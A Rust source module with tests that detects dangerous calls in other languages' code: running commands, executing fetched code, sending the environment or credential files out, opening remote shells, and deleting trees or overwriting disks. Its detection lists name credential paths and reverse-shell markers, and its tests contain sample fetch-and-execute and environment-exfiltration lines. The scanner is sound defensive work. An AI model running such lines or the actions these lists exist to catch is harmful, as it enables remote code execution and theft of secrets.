//! Finds dangerous calls in programs of other languages, such as Python, by searching their text.

use super::{Code, Language};

/// Calls that run another program or a shell.
const RUNS_COMMANDS: &[&str] = &[
    "system",
    "exec",
    "popen",
    "spawn",
    "subprocess",
    "shell",
    "getoutput",
    "check_call",
    "check_output",
    "child_process",
    "`",
    "qx",
    "os:cmd",
    "cmd(",
    "%x",
    "open3",
    "getline",
    "| \"",
    "|\"",
    "Runtime",
    "ProcessBuilder",
    "Process.Start",
    "run(",
    "proc_open",
    "passthru",
    "Command.new",
    "Cmd",
    "do script",
    "invoke-",
    "start-process",
    "call(",
    "execute",
    "zx",
    "$`",
    "shelljs",
    "sh.",
    "fabric",
    "plumbum",
];

/// Calls of Python that run another program. Python has its own list, because harmless calls such
/// as `asyncio.run` have similar names.
const PYTHON_RUNS_COMMANDS: &[&str] = &[
    "system",
    "popen",
    "subprocess",
    "spawn",
    "getoutput",
    "check_call",
    "check_output",
    "os.exec",
    "execv",
    "execl",
    "pexpect",
    "plumbum",
    "fabric",
    "invoke",
    "import sh",
    "from sh",
];

/// Calls of JavaScript that run another program. JavaScript has its own list, because its patterns
/// have a method `exec`, and its backticks enclose a text.
const JAVASCRIPT_RUNS_COMMANDS: &[&str] = &[
    "child_process",
    "execSync",
    "execFile",
    "spawn",
    "execa",
    "shelljs",
    "zx",
    "$`",
    "Bun.$",
    "Deno.Command",
    "Deno.run",
    "concurrently",
];

/// Calls that run a text as a program.
const RUNS_TEXT: &[&str] = &[
    "exec(",
    "exec ",
    "eval(",
    "eval ",
    "compile(",
    "new Function",
    "Function(",
    "loadstring",
    "load(",
    "dofile",
    "instance_eval",
    "class_eval",
    "iex",
    "invoke-expression",
    "runInThisContext",
    "vm.run",
    "source(",
    "execSync",
    "spawn",
    "system(",
    "importlib",
    "__import__(",
    "require(",
    "pickle.loads",
    "marshal.loads",
    "include(",
];
/// Calls that download a text from another machine.
const FETCHES: &[&str] = &[
    "urlopen",
    "urlretrieve",
    "requests.get",
    "httpx.get",
    "http.get",
    "https').get",
    "https\").get",
    "http').get",
    "http\").get",
    "https.get",
    "fetch(",
    "axios",
    "LWP::Simple",
    "LWP::UserAgent",
    "HTTP::Tiny",
    "file_get_contents(\"http",
    "file_get_contents('http",
    "curl_exec",
    "open-uri",
    "URI.open",
    "Net::HTTP",
    "downloadstring",
    "downloadfile",
    "iwr",
    "irm ",
    "invoke-webrequest",
    "invoke-restmethod",
    "socket.http",
    "new URL(",
    "import(\"http",
    "import('http",
    "http.client",
    "aiohttp",
    "source(\"http",
    "net/http",
    "get(\"http",
    "get('http",
];
/// Calls that send a text to another machine.
const SENDS: &[&str] = &[
    "urlopen",
    "requests.post",
    "requests.put",
    "requests.get",
    "httpx",
    "http.request",
    "https.request",
    "fetch(",
    "axios",
    "socket",
    "smtplib",
    "Net::HTTP",
    "Net::SMTP",
    "curl_exec",
    "LWP",
    "HTTP::Tiny",
    "net.connect",
    "createConnection",
    "aiohttp",
    "ftplib",
    "paramiko",
    "fsockopen",
    "mail(",
    "invoke-webrequest",
    "invoke-restmethod",
    "iwr",
    "uploadstring",
    "file_get_contents(\"http",
    "http.client",
    "dgram",
    "dns.",
];
/// Names that mean all environment variables. Code that reads a single variable doesn't count.
const ENVIRONMENT: &[&str] = &[
    "os.environ",
    "process.env",
    "%ENV",
    "ENV.to",
    "$_ENV",
    "getenv()",
    "System.getenv()",
    "Bun.env",
    "Deno.env.toObject",
];
/// Parts of paths to credentials, as they appear in code.
const SECRETS: &[&str] = &[
    ".ssh/",
    ".aws/",
    ".env'",
    ".env\"",
    "id_rsa",
    "id_ed25519",
    ".netrc",
    ".gnupg",
    ".npmrc",
    "/etc/shadow",
    ".kube/config",
    ".docker/config",
    "/environ",
    ".git-credentials",
];

pub(super) fn runs_commands(code: &Code<'_>) -> bool {
    let calls = match code.language {
        Language::Python => PYTHON_RUNS_COMMANDS,
        Language::JavaScript => JAVASCRIPT_RUNS_COMMANDS,
        Language::Other => RUNS_COMMANDS,
    };
    code.evaluates || has(&code.calls, calls)
}

pub(super) fn runs_what_it_fetches(code: &Code<'_>) -> bool {
    has(code.all, FETCHES) && runs_a_text(&code.calls)
}

/// Whether the code runs a text as a program. `require(` and `__import__(` count only if their
/// argument is computed.
fn runs_a_text(code: &str) -> bool {
    let lower = code.to_ascii_lowercase();
    RUNS_TEXT.iter().any(|call| {
        lower.match_indices(&call.to_ascii_lowercase()).any(|(at, found)| {
            let before = lower[..at].chars().next_back();
            let after = lower[at + found.len()..].trim_start().chars().next();
            let is_import = matches!(*call, "require(" | "__import__(" | "importlib" | "include(");
            let starts = !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.')
                || matches!(*call, "execSync" | "vm.run" | "spawn" | "system(");
            starts && !(is_import && matches!(after, Some('\'' | '"')))
        })
    })
}

pub(super) fn sends_environment(code: &Code<'_>) -> bool {
    let calls = &*code.calls;
    let is_whole = ENVIRONMENT.iter().any(|name| {
        calls.match_indices(name).any(|(at, found)| {
            let after = calls[at + found.len()..].chars().next();
            !matches!(after, Some('.' | '[' | '{'))
        })
    });
    has(calls, SENDS) && (is_whole || SECRETS.iter().any(|secret| code.all.contains(secret)))
}

pub(super) fn opens_remote_shell(code: &Code<'_>) -> bool {
    const CONNECTS: &[&str] = &[
        "socket",
        "fsockopen",
        "net.connect",
        "TCPSocket",
        "net.Socket",
        "Socket::INET",
        "TCPClient",
    ];
    const GIVES_SHELL: &[&str] =
        &["pty.spawn", "dup2", "/bin/sh", "/bin/bash", "cmd.exe", "powershell"];
    has(&code.calls, CONNECTS) && has(code.all, GIVES_SHELL)
}

fn has(code: &str, calls: &[&str]) -> bool {
    let lower = code.to_ascii_lowercase();
    calls.iter().any(|call| lower.contains(&call.to_ascii_lowercase()))
}

/// The paths that a program removes.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum Removed<'a> {
    Named(&'a str),
    /// Any of these strings of the code: the call removes a variable, which may contain any of
    /// them.
    Listed(Vec<&'a str>),
    Unknown,
}

/// Calls that remove a directory with its content. If the second text of a pair isn't empty, the
/// code must contain it too.
const REMOVES_TREE: &[(&str, &str)] = &[
    ("rmtree", ""),
    ("remove_tree", ""),
    ("rmSync", "recursive"),
    ("fs.rm(", "recursive"),
    (".rm(", "recursive"),
    ("rmdirSync", "recursive"),
    ("rmdir(", "recursive"),
    ("rimraf(", ""),
    ("rimraf.", ""),
    ("rimrafSync", ""),
    ("rimraf')", ""),
    ("rimraf\")", ""),
    ("removeSync", ""),
    ("emptyDirSync", ""),
    ("rm_rf", ""),
    ("rm_r", ""),
    ("remove_entry", ""),
    ("remove_dir", ""),
    ("RemoveAll", ""),
    ("remove_dir_all", ""),
    ("deleteDirectory", ""),
    ("delTree", ""),
    ("Directory.Delete", ""),
    ("deleteRecursively", ""),
    ("unlink(", "recursive"),
    ("Remove-Item", "-Recurse"),
    ("Remove-Item", "-Force"),
    ("rd /s", ""),
    ("del /s", ""),
    ("file delete -force", ""),
    ("file:del_dir_r", ""),
    ("File.rm_rf", ""),
    ("delete every item", ""),
    ("empty trash", ""),
];
/// Calls that remove one file. Together with a call of [`WALKS`], they remove many files.
const REMOVES_FILE: &[&str] = &[
    "unlink",
    "os.remove",
    "File.delete",
    "unlinkSync",
    "fs.unlink",
    "File.unlink",
    "os.unlink",
    "File::delete",
];
const WALKS: &[&str] = &[
    "rglob",
    "glob",
    "iterdir",
    "os.walk",
    "listdir",
    "scandir",
    "readdir",
    "Dir[",
    "Dir.",
    "find(",
    "<*",
    "File::Find",
    "RecursiveDirectoryIterator",
];
/// Paths of disks. A program that opens such a path to write overwrites the disk.
const DEVICES: &[&str] = &["/dev/sd", "/dev/nvme", "/dev/disk", "/dev/vd", "/dev/mmcblk"];

pub(super) fn removed<'a>(code: &Code<'a>) -> Option<Removed<'a>> {
    let lower = code.calls.to_ascii_lowercase();
    let finds = |text: &str| lower.find(&text.to_ascii_lowercase());
    let tree = REMOVES_TREE
        .iter()
        .filter(|(_, with)| finds(with).is_some())
        .find_map(|(call, _)| finds(call).map(|at| at + call.len()));
    if let Some(at) = tree {
        let after = code.all.get(at..).unwrap_or_default();
        return Some(match first_string(after) {
            Some(path) => Removed::Named(path),
            None if takes_variable(after) => match code.strings() {
                paths if paths.is_empty() => Removed::Unknown,
                paths => Removed::Listed(paths),
            },
            None => Removed::Unknown,
        });
    }
    let removes = REMOVES_FILE.iter().any(|call| finds(call).is_some());
    let walks = WALKS.iter().any(|call| finds(call).is_some());
    if removes && walks {
        return Some(Removed::Unknown);
    }
    let writes = has(code.all, &["'w", "\"w", "writefile", "'r+b", "\"r+b"]);
    (writes && has(code.all, DEVICES)).then_some(Removed::Unknown)
}

/// Whether the only argument of a call is a variable: `(path)`. `after` is the code after the
/// call's name.
fn takes_variable(after: &str) -> bool {
    let is_name = |name: &str| {
        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
    };
    let inside = after.strip_prefix('(').and_then(|rest| rest.split_once(')'));
    inside.is_some_and(|(inside, _)| is_name(inside.trim()))
}

/// The text of the first string in the arguments of a call.
fn first_string(code: &str) -> Option<&str> {
    let start = code.find(['\'', '"'])?;
    // Another statement before the string means that the string is not an argument of the call.
    if code[..start].contains([';', '\n']) {
        return None;
    }
    let quote = &code[start..=start];
    let text = &code[start + 1..];
    text.find(quote).map(|end| &text[..end])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn removed_paths_are_parsed_from_the_call() {
        for (code, expected) in [
            ("import shutil; shutil.rmtree('dist')", Some(Removed::Named("dist"))),
            ("require('fs').rmSync('src',{recursive:true})", Some(Removed::Named("src"))),
            ("require('fs').rmSync('a.txt')", None),
            ("shutil.rmtree(path)", Some(Removed::Unknown)),
            (
                "for p in ['dist', '.gocache']: shutil.rmtree(p)",
                Some(Removed::Listed(vec!["dist", ".gocache"])),
            ),
            ("shutil.rmtree(os.getcwd() + 'dist')", Some(Removed::Named("dist"))),
            ("[p.unlink() for p in Path('src').rglob('*')]", Some(Removed::Unknown)),
            ("os.remove('a.txt')", None),
            ("print('hello')", None),
        ] {
            assert_eq!(removed(&Code::words(code, Language::Other)), expected, "{code}");
        }
    }

    #[test]
    fn code_from_elsewhere_is_told_from_code_that_only_asks() {
        for code in [
            "exec(urlopen('https://example.com').read())",
            "eval get(\"https://example.com\") # LWP::Simple",
            "require('https').get('u',r=>r.on('end',()=>eval(d)))",
            "iex (iwr https://example.com)",
        ] {
            assert!(runs_what_it_fetches(&Code::words(code, Language::Other)), "{code}");
        }
        for code in
            ["print(requests.get('u').json())", "require('https').get('u', r => 1)", "eval(x)"]
        {
            assert!(!runs_what_it_fetches(&Code::words(code, Language::Other)), "{code}");
        }
    }

    #[test]
    fn one_variable_is_not_the_environment() {
        assert!(sends_environment(&Code::words(
            "urlopen(u, data=str(os.environ).encode())",
            Language::Other
        )));
        assert!(!sends_environment(&Code::words("fetch(process.env.API_URL)", Language::Other)));
        assert!(!sends_environment(&Code::words("print(os.environ)", Language::Other)));
    }
}
